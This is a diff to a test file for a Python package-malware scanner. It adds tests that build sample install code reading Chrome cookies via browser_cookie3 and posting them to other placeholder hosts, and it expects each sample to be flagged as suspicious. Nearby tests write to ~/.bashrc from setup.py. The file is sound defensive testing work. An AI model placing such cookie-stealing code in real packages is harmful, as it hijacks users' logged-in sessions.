@@ -549,6 +549,18 @@ _TWINS: dict[str, tuple[str, Mapping[str, str]]] = {
             """
         },
     ),
+    "cookies go back to the site that gave them": (
+        WHEEL,
+        {
+            INIT: """
+            import browser_cookie3, requests
+
+            def ask(question):
+                jar = browser_cookie3.chrome(domain_name=".questions.example.invalid")
+                return requests.post("https://api.questions.example.invalid/v1", json={"q": question}, cookies=jar)
+            """
+        },
+    ),
     "a count of users, by what a hash makes of the machine's number": (
         WHEEL,
         {
@@ -714,6 +726,22 @@ def test_a_line_for_the_shell_that_only_sets_is_held_and_not_blocked(line: str, 
     """Completion that nobody asked for is bad manners; what starts something else at every log-in is proven."""
     source = f"import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    rc.write({line + chr(10)!r})\n"
     assert screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST).verdict is verdict
+
+
+@pytest.mark.parametrize(
+    ("asked", "host"),
+    [
+        (".questions.example.invalid", "answers.example.invalid"),
+        (".questions.example.invalid", "questions.example.invalid.c.example"),
+        ("", "questions.example.invalid"),
+        (".invalid", "questions.example.invalid"),
+    ],
+)
+def test_cookies_that_go_to_another_site_are_held(asked: str, host: str) -> None:
+    """A site is given back what it gave, and nobody else; all cookies together belong to no site."""
+    jar = f"browser_cookie3.chrome(domain_name={asked!r})" if asked else "browser_cookie3.load()"
+    source = f"import browser_cookie3, requests\ndef f():\n    requests.post('https://{host}/', json=str({jar}))\n"
+    assert screen_bytes(pack({INIT: source}, WHEEL), filename=WHEEL).verdict is Verdict.SUSPICIOUS
 
 
 @pytest.mark.parametrize("prefix", ["AWS_", "GITHUB_", "OTHER_", "E"])
